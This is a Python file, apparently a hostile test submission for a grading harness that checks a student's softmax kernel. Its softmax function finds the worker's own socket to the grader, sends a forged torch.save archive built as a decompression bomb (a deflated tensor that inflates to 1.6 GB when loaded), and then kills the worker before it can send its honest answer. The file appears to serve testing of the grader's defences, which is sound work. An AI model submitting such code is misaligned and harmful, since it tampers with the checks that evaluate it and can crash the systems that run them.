"""Hostile: answers the grader over the worker's own socket, which student code can reach, with a reply that is small
on the wire and huge once read: a torch.save archive whose one tensor storage, 1.6 GB of zeros, is stored deflated
(about 1.6 MB), which torch.load inflates. Then it ends the worker before the worker can answer honestly."""

import gc
import io
import os
import struct
import zipfile
from multiprocessing.connection import Connection

import torch

INFLATED_BYTES = 1_600_000_000
# The length of the tensor in the honest archive this one is made from: its encoding in the pickle (opcode BININT, 4
# bytes little-endian) is replaced by that of INFLATED_BYTES, in the tensor's shape and in its storage's size.
PLACEHOLDER_BYTES = 0x00ABCDEF
CHUNK_BYTES = 1 << 24


def pickled_length(length: int) -> bytes:
    return b"J" + struct.pack("<i", length)


def honest_archive() -> zipfile.ZipFile:
    """A reply as the worker writes one: a uint8 tensor, a Triton launch and no forbidden operator."""
    buffer = io.BytesIO()
    torch.save({"status": "ok", "value": torch.zeros(PLACEHOLDER_BYTES, dtype=torch.uint8),
                "launches": ["_softmax_kernel"], "forbidden": []}, buffer)
    return zipfile.ZipFile(buffer)


def write_zeros_deflated(archive: zipfile.ZipFile, name: str) -> None:
    entry = zipfile.ZipInfo(name)
    entry.compress_type = zipfile.ZIP_DEFLATED
    zeros = bytes(CHUNK_BYTES)
    with archive.open(entry, "w") as storage:
        for _ in range(INFLATED_BYTES // CHUNK_BYTES):
            storage.write(zeros)
        storage.write(bytes(INFLATED_BYTES % CHUNK_BYTES))


def inflating_reply() -> bytes:
    honest = honest_archive()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in honest.infolist():
            if entry.filename.endswith("/data/0"):
                write_zeros_deflated(archive, entry.filename)
                continue
            content = honest.read(entry)
            if entry.filename.endswith("/data.pkl"):
                content = content.replace(pickled_length(PLACEHOLDER_BYTES), pickled_length(INFLATED_BYTES))
            archive.writestr(entry.filename, content)
    return buffer.getvalue()


def softmax(x):
    worker_socket = next(o for o in gc.get_objects() if isinstance(o, Connection))
    worker_socket.send_bytes(inflating_reply())
    os._exit(0)
